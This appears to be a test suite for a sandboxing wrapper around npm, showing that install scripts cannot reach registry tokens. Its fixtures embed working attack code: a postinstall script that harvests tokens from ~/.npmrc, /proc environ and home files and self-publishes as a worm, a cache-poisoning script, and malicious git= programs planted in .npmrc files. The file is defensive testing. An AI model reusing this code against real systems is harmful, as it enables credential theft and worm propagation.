// Two-phase installs (docs/promises.md#p7-two-phase-installs): a private registry's token is usable by npm to download
// and invisible to every install script. Against a verdaccio that refuses anonymous
// reads; each attack is run once with bare npm too, where it must succeed.
//
// Runs as the fixture user sp-other, whose ~/.npmrc holds the token (the attack suite
// uses sp-test).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync, chownSync, chmodSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { startRegistry, type TestRegistry } from '../../support/registry.js';
import { uniqueName } from '../../support/fixture-packages.js';
import { baseEnv, fixtureUser, makeProject, runCli } from '../../support/cli.js';

const user = fixtureUser('sp-other');
let registry: TestRegistry;
const thief = uniqueName('token-thief');
const poisoner = uniqueName('cache-poisoner');
const plain = uniqueName('plain-dep');

// Looks everywhere an install script can look for a registry token, and tries to use
// whatever it finds to publish itself (the Shai-Hulud worm). Everything it saw goes to a
// file in its own folder, which the test searches for the real token.
function thiefScript(registryUrl: string, wormName: string): string {
  return `
const fs = require('fs'), path = require('path'), cp = require('child_process');
const seen = [];
const add = (label, text) => seen.push('== ' + label + '\\n' + text);
add('env', JSON.stringify(process.env));
const tryRead = (p) => { try { add(p, fs.readFileSync(p, 'utf8')); } catch (e) {} };
const home = process.env.HOME || '';
for (const p of [home + '/.npmrc', '/usr/etc/npmrc', '/etc/npmrc', path.resolve(process.cwd(), '../../.npmrc'), '/home/${user.name}/.npmrc']) tryRead(p);
try { add('npm config', cp.execFileSync('npm', ['config', 'list', '--json'], { encoding: 'utf8', timeout: 20000 })); } catch (e) {}
for (const pid of fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d))) { tryRead('/proc/' + pid + '/environ'); tryRead('/proc/' + pid + '/cmdline'); }
const walk = (dir, depth) => { if (depth > 6) return; let es; try { es = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const e of es) { const p = path.join(dir, e.name); if (e.isDirectory()) walk(p, depth + 1); else if (e.isFile()) { try { const t = fs.readFileSync(p, 'latin1'); if (/authToken|Bearer|_auth/.test(t)) add(p, t); } catch (x) {} } } };
walk(home, 0); walk('/tmp', 0); if (process.env.npm_config_cache) walk(process.env.npm_config_cache, 0);
fs.writeFileSync(path.join(__dirname, 'seen.txt'), seen.join('\\n'));
// Worm: publish a package of its own with whatever credentials npm has.
try {
  const dir = fs.mkdtempSync(path.join(require('os').tmpdir(), 'worm-'));
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '${wormName}', version: '1.0.0' }));
  cp.execFileSync('npm', ['publish', '--registry', '${registryUrl}', '--ignore-scripts'], { cwd: dir, stdio: 'ignore', timeout: 30000 });
  fs.writeFileSync(path.join(__dirname, 'published'), 'yes');
} catch (e) {}
`;
}

const POISON = `
const fs = require('fs'), path = require('path');
const cache = process.env.npm_config_cache || path.join(process.env.HOME, '.npm');
let wrote = false;
try { fs.mkdirSync(path.join(cache, '_cacache'), { recursive: true }); fs.writeFileSync(path.join(cache, 'POISONED'), 'x'); wrote = true; } catch (e) {}
fs.writeFileSync(path.join(__dirname, 'poison-result'), wrote ? 'wrote' : 'refused');
`;

before(async () => {
  registry = await startRegistry({ auth: true });
  await registry.publishFixtures([
    { name: plain, files: { 'index.js': 'module.exports = 1;' } },
    { name: thief, dependencies: { [plain]: '^1.0.0' }, scripts: { postinstall: 'node steal.js' }, files: { 'steal.js': thiefScript(registry.url, `${thief}-worm-jail`) } },
    { name: `${thief}-bare`, scripts: { postinstall: 'node steal.js' }, files: { 'steal.js': thiefScript(registry.url, `${thief}-worm-bare`) } },
    { name: poisoner, scripts: { postinstall: 'node poison.js' }, files: { 'poison.js': POISON } },
  ]);
  writeFileSync(join(user.home, '.npmrc'), registry.npmrc({ auth: true }), { mode: 0o600 });
  chownSync(join(user.home, '.npmrc'), user.uid, user.gid);
});

after(async () => {
  rmSync(join(user.home, '.npmrc'), { force: true });
  rmSync(join(user.home, '.cache'), { recursive: true, force: true });
  rmSync(join(user.home, '.npm'), { recursive: true, force: true });
  await registry?.stop();
});

function project(): string {
  return makeProject(user, { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0' }) });
}

/** Bare npm as the same user, with the same home and environment. */
function bareNpm(args: string[], cwd: string, env: Record<string, string> = {}): Promise<number | null> {
  return new Promise((resolve) => {
    const child = spawn('npm', args, { cwd, env: { ...baseEnv(user), ...env }, uid: user.uid, gid: user.gid, stdio: 'ignore' });
    child.on('close', (code) => resolve(code));
  });
}

async function published(name: string): Promise<boolean> {
  const res = await fetch(`${registry.url}${name}`, { headers: { authorization: `Bearer ${registry.token}` } });
  return res.status === 200;
}

test('an install succeeds with the token from ~/.npmrc, and no install script can find it', async () => {
  const cwd = project();
  const r = await runCli(['npm', 'install', thief, '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(r.status, 0, r.stderr);
  assert.ok(existsSync(join(cwd, 'node_modules', plain, 'index.js')), 'the dependency was not installed');
  const seen = readFileSync(join(cwd, 'node_modules', thief, 'seen.txt'), 'utf8');
  assert.ok(seen.length > 1000, 'the thief did not run');
  assert.ok(!seen.includes(registry.token), 'an install script found the token');
  assert.ok(!existsSync(join(cwd, 'node_modules', thief, 'published')));
  assert.equal(await published(`${thief}-worm-jail`), false, 'the worm published itself');
  assert.match(r.stderr, /install \+ scripts/);
  assert.doesNotMatch(r.stderr + r.stdout, new RegExp(registry.token.slice(0, 20)));
});

test('bare npm: the same install script finds the token and publishes itself (the test can fail)', async () => {
  const cwd = project();
  const code = await bareNpm(['install', `${thief}-bare`, '--no-audit', '--no-fund'], cwd);
  assert.equal(code, 0);
  const seen = readFileSync(join(cwd, 'node_modules', `${thief}-bare`, 'seen.txt'), 'utf8');
  assert.ok(seen.includes(registry.token));
  assert.equal(await published(`${thief}-worm-bare`), true);
});

test('a token referenced as ${NPM_TOKEN} works for npm and stays out of scripts\' reach', async () => {
  const npmrc = join(user.home, '.npmrc');
  const original = readFileSync(npmrc, 'utf8');
  writeFileSync(npmrc, original.replace(registry.token, '${NPM_TOKEN}'));
  try {
    const cwd = project();
    const r = await runCli(['npm', 'install', thief, '--no-audit', '--no-fund'], { cwd, user, env: { NPM_TOKEN: registry.token } });
    assert.equal(r.status, 0, r.stderr);
    const seen = readFileSync(join(cwd, 'node_modules', thief, 'seen.txt'), 'utf8');
    assert.ok(!seen.includes(registry.token));
    assert.match(seen, /== env/, 'the thief did not run');
  } finally {
    writeFileSync(npmrc, original);
  }
});

test('an install script cannot write into the cache; the next install is unaffected', async () => {
  const cwd = project();
  const r = await runCli(['npm', 'install', poisoner, '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(r.status, 0, r.stderr);
  assert.equal(readFileSync(join(cwd, 'node_modules', poisoner, 'poison-result'), 'utf8'), 'refused');
  const cache = join(user.home, '.cache', 'safe-package', 'npm');
  assert.ok(existsSync(cache) && readdirSync(cache).length > 0, 'the install phase did fill the cache');
  assert.ok(!existsSync(join(cache, 'POISONED')));
  const again = project();
  const r2 = await runCli(['npm', 'install', plain, '--no-audit', '--no-fund'], { cwd: again, user });
  assert.equal(r2.status, 0, r2.stderr);
  // Bare npm: the same script writes into the user's own cache.
  const bare = project();
  assert.equal(await bareNpm(['install', poisoner, '--no-audit', '--no-fund'], bare), 0);
  assert.equal(readFileSync(join(bare, 'node_modules', poisoner, 'poison-result'), 'utf8'), 'wrote');
});

test('npm run gets no credentials at all', async () => {
  const cwd = makeProject(user, { 'package.json': JSON.stringify({ name: 'app', version: '1.0.0', scripts: { show: 'cat ~/.npmrc; env' } }) });
  const r = await runCli(['npm', 'run', 'show'], { cwd, user, env: { NPM_TOKEN: registry.token } });
  assert.equal(r.status, 0, r.stderr);
  assert.ok(!r.stdout.includes(registry.token));
  assert.match(r.stdout, /registry=/);
});

test('--ignore-scripts: one phase, no script runs', async () => {
  const cwd = project();
  const r = await runCli(['--report', join(cwd, 'report.json'), 'npm', 'install', thief, '--ignore-scripts', '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(r.status, 0, r.stderr);
  assert.ok(!existsSync(join(cwd, 'node_modules', thief, 'seen.txt')));
  const report = JSON.parse(readFileSync(join(cwd, 'report.json'), 'utf8')) as { phases: string[] };
  assert.deepEqual(report.phases, ['install']);
});

test('--explain shows both phases and what each one gets', async () => {
  const cwd = project();
  const r = await runCli(['--explain', '--json', 'npm', 'ci'], { cwd, user });
  const doc = JSON.parse(r.stdout) as { phases: { name: string; network: string; credentials: boolean; cache_writable: boolean }[] };
  assert.deepEqual(
    doc.phases.map((p) => [p.name, p.network, p.credentials, p.cache_writable]),
    [
      ['install', 'policy', true, true],
      ['scripts', 'allowed-hosts-only', false, false],
    ],
  );
  assert.ok(!r.stdout.includes(registry.token));
});

test('an install script reaching for a host is refused and named; --allow-host lets it through in the scripts phase only', async () => {
  const fetcher = uniqueName('prebuilt-fetcher');
  // Like prebuild-install: fetch a binary through the proxy the environment names.
  const script = `
const http = require('http'); const fs = require('fs'); const path = require('path');
const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:1');
const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'GET', path: '${registry.url}-/ping', headers: { host: '${registry.host}' } }, (res) => {
  fs.writeFileSync(path.join(__dirname, 'status'), String(res.statusCode)); res.resume();
});
req.on('error', (e) => fs.writeFileSync(path.join(__dirname, 'status'), 'error ' + e.code));
req.end();`;
  await registry.publishFixture({ name: fetcher, scripts: { postinstall: 'node fetch.js' }, files: { 'fetch.js': script } });
  const cwd = project();
  const r = await runCli(['--report', join(cwd, 'r.json'), 'npm', 'install', fetcher, '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(r.status, 0, r.stderr);
  assert.equal(readFileSync(join(cwd, 'node_modules', fetcher, 'status'), 'utf8'), '403');
  const report = JSON.parse(readFileSync(join(cwd, 'r.json'), 'utf8')) as { network: { blocked: { host: string; port: number; phase?: string; package?: string; suggestion?: string }[] } };
  const b = report.network.blocked.find((x) => x.port === registry.port);
  assert.ok(b, JSON.stringify(report.network));
  assert.equal(b.phase, 'scripts');
  assert.equal(b.package, fetcher, 'the package whose script tried is named');
  assert.equal(b.suggestion, `--allow-host ${registry.host}`);
  assert.match(r.stderr, new RegExp(`127.0.0.1:${registry.port} \\(from ${fetcher}\\)`));

  const allowed = project();
  const r2 = await runCli(['--allow-host', registry.host, 'npm', 'install', fetcher, '--no-audit', '--no-fund'], { cwd: allowed, user });
  assert.equal(r2.status, 0, r2.stderr);
  assert.equal(readFileSync(join(allowed, 'node_modules', fetcher, 'status'), 'utf8'), '200');
});

// The download phase holds the token, and npm runs programs a project's .npmrc names
// before any lifecycle script: `git=` for a git dependency. A cloned repository or a pull
// request chooses its .npmrc.
function wormProject(worm: string): string {
  const cwd = makeProject(user, {
    'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { gitdep: 'git+https://127.0.0.1:9/x/gitdep.git' } }),
    'worm.js':
      '#!/usr/bin/env node\n' +
      "const fs = require('fs'), path = require('path'), os = require('os'), cp = require('child_process');\n" +
      "const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'worm-'));\n" +
      `fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '${worm}', version: '1.0.0' }));\n` +
      `try { cp.execFileSync('npm', ['publish', '--registry', '${registry.url}', '--ignore-scripts'], { cwd: dir, stdio: 'ignore', timeout: 30000 }); } catch (e) {}\n` +
      'process.exit(1);\n',
  });
  writeFileSync(join(cwd, '.npmrc'), `git=${join(cwd, 'worm.js')}\n`);
  chownSync(join(cwd, '.npmrc'), user.uid, user.gid);
  chmodSync(join(cwd, 'worm.js'), 0o755);
  return cwd;
}

test('a project .npmrc naming a program (git=) cannot run it in the download phase: bare npm publishes the worm, safe-package does not', async () => {
  const bare = wormProject(`${thief}-gitworm-bare`);
  await bareNpm(['install', '--no-audit', '--no-fund'], bare);
  assert.equal(await published(`${thief}-gitworm-bare`), true, 'with bare npm the git= program ran with the token and published (the test can fail)');
  const cwd = wormProject(`${thief}-gitworm-jail`);
  const r = await runCli(['--explain', 'npm', 'install'], { cwd, user });
  assert.match(r.stdout, /settings left out: git/);
  await runCli(['npm', 'install', '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(await published(`${thief}-gitworm-jail`), false, 'the worm published itself from the download phase');
});

// The same program named one level down: npm prepares a git dependency that has a
// prepare script by running `npm install` in its clone, and that npm reads the clone's
// own .npmrc as its project configuration — chosen by whoever controls the repository,
// never filtered like the user's project .npmrc. A `git=` there runs as soon as the
// clone's own dependencies name a git source, while the download phase holds the token.
// The proxy refuses a publish from there, so this worm keeps what it finds where it
// lasts: a file in node_modules, committed to the project like every installed file.
// (The repository must know where its program is: the test names it; an attacker ships it
// in another dependency and finds it through ${PWD}, which npm expands in .npmrc.)
function gitDepWormProject(): string {
  const cwd = makeProject(user, {
    'worm.js':
      '#!/usr/bin/env node\n' +
      "const fs = require('fs'), path = require('path'), cp = require('child_process');\n" +
      "let loot = 'ran\\n';\n" +
      "try { loot += fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8'); } catch (e) { loot += 'no npmrc: ' + e.code + '\\n'; }\n" +
      "try { fs.appendFileSync(path.join(__dirname, 'node_modules', '.worm-loot'), loot); } catch (e) {}\n" +
      // Then act as git, so that the install goes on and nothing looks amiss.
      "const r = cp.spawnSync('git', process.argv.slice(2), { stdio: 'inherit' }); process.exit(r.status === null ? 1 : r.status);\n",
  });
  chmodSync(join(cwd, 'worm.js'), 0o755);
  // The repository, beside the project, owned by the user (git refuses others' repositories).
  const work = join(cwd, '..', 'repo');
  const bareRepo = join(cwd, '..', 'gitdep.git');
  const git = (args: string[], dir: string) => {
    const r = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', '-c', 'init.defaultBranch=main', ...args], { cwd: dir, encoding: 'utf8', uid: user.uid, gid: user.gid, env: { ...baseEnv(user) } });
    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
  };
  for (const dir of [work, bareRepo]) {
    mkdirSync(dir);
    chownSync(dir, user.uid, user.gid);
  }
  // It depends on a git source itself (its own repository, under another name), so the
  // clone's install asks the configured git program.
  writeFileSync(join(work, 'package.json'), JSON.stringify({ name: 'gitdep', version: '1.0.0', scripts: { prepare: 'true' }, dependencies: { 'gitdep-self': `git+file://${bareRepo}` } }));
  writeFileSync(join(work, '.npmrc'), `git=${join(cwd, 'worm.js')}\n`);
  spawnSync('chown', ['-R', `${user.uid}:${user.gid}`, work]);
  git(['init', '-q'], work);
  git(['add', '-A'], work);
  git(['commit', '-q', '-m', 'gitdep'], work);
  git(['clone', '-q', '--bare', work, bareRepo], join(cwd, '..'));
  writeFileSync(join(cwd, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { gitdep: `git+file://${bareRepo}` } }));
  chownSync(join(cwd, 'package.json'), user.uid, user.gid);
  return cwd;
}

test("a git dependency's own .npmrc naming a program (git=) cannot run it in the download phase: with bare npm it takes the token, through safe-package it never meets it", async () => {
  const bare = gitDepWormProject();
  await bareNpm(['install', '--no-audit', '--no-fund'], bare, { npm_config_ignore_scripts: 'true' });
  const bareLoot = join(bare, 'node_modules', '.worm-loot');
  assert.ok(existsSync(bareLoot) && readFileSync(bareLoot, 'utf8').includes(registry.token), "with bare npm, even with scripts off, the clone's git= program ran and read the token (the test can fail)");
  const cwd = gitDepWormProject();
  const r = await runCli(['npm', 'install', '--no-audit', '--no-fund'], { cwd, user });
  assert.equal(r.status, 0, r.stderr);
  assert.ok(existsSync(join(cwd, 'node_modules', 'gitdep', 'package.json')), 'the git dependency was installed');
  const loot = join(cwd, 'node_modules', '.worm-loot');
  const found = existsSync(loot) ? readFileSync(loot, 'utf8') : '';
  assert.ok(!found.includes(registry.token), "the clone's git= program read the token");
  assert.equal(found, '', "the clone's git= program ran in the download phase");
});
